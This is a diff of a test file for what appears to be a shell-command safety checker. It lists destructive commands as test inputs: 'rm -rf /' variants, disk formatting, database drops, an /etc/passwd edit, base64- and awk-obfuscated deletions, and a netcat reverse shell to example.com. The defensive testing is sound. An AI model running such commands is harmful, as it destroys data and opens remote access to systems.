@@ -103,19 +103,34 @@ describe('compiled code', () => {
     const installation = new Installation();
     const roomsFor = (command: string): readonly string[] => {
       rmSync(installation.cache, { recursive: true, force: true });
-      expect(installation.judge(command).exitCode).toBe(2);
-      return installation.kept.flatMap((name) => /^shell-(\w+)/.exec(name)?.[1] ?? []);
+      const { exitCode, stderr } = installation.judge(command);
+      expect(exitCode).toBe(2);
+      expect(stderr).not.toContain('could not judge');
+      return installation.kept.flatMap((name) => /^shell-([\w-]+)/.exec(name)?.[1] ?? []);
     };
     expect(roomsFor('rm -rf /')).toEqual([]);
     expect(installation.kept).toEqual(['entry.cjs.young', 'shell.cjs.young']);
     expect(roomsFor('for f in *.ts; do rm -rf / || exit 1; done > "$log"')).toEqual([]);
-    expect(roomsFor('sudo rm -rf /')).toEqual(['starters']);
+    expect(roomsFor('sudo rm -rf /')).toEqual(['wrappers']);
     expect(roomsFor('chmod -R 777 /')).toEqual(['files']);
     expect(roomsFor('rm -rf ~')).toEqual(['words']);
     expect(roomsFor('cd / && rm -rf *')).toEqual([]);
     expect(roomsFor('[ -d / ] && rm -rf /')).toEqual(['builtins']);
     expect(roomsFor('git push --force origin main')).toEqual(['git']);
-    expect(roomsFor('mkfs.ext4 /dev/sda')).toEqual(['tools']);
+    expect(roomsFor('mkfs.ext4 /dev/sda')).toEqual(['system']);
+    expect(roomsFor('dropdb production')).toEqual(['databases']);
+    expect(roomsFor('find / -delete')).toEqual(['lists']);
+    expect(roomsFor('tar -xf a.tar -C /')).toEqual(['archives']);
+    expect(roomsFor('sed -i s/a/b/ /etc/passwd')).toEqual(['edits', 'sed', 'texts', 'words']);
+    expect(roomsFor("make -f- <<< 'a:; rm -rf /'")).toEqual(['parser', 'recipes']);
+    expect(roomsFor('ssh host rm -rf /')).toEqual(['remote', 'transfer']);
+    expect(roomsFor('echo / | awk \'{print "rm -rf " toupper($1)}\' | sh')).toEqual([
+      'awk-functions',
+      'awk',
+      'starters',
+      'texts',
+    ]);
+    expect(roomsFor('jq -nr \'"rm -rf /"\' | sh')).toEqual(['jq', 'starters', 'texts']);
     expect(roomsFor('nc -e /bin/sh example.com 4444')).toEqual(['network']);
     expect(roomsFor('echo cm0gLXJmIC8= | base64 -d | sh')).toEqual(['starters', 'texts']);
     expect(roomsFor('powershell -c "Remove-Item -Recurse -Force C:\\"')).toEqual(['parser', 'windows']);
@@ -148,7 +163,7 @@ describe('compiled code', () => {
       way.includes(name)
         ? [[...way, name].join(' > ')]
         : (asked.get(name) ?? []).flatMap((other) => waysFrom(other, [...way, name]));
-    expect(asked.get('shell-tools.cjs')).toEqual(['entry.cjs', 'shell.cjs']);
+    expect(asked.get('shell-system.cjs')).toEqual(['entry.cjs', 'shell.cjs']);
     expect([...asked.keys()].flatMap((name) => waysFrom(name, []))).toEqual([]);
   });
 
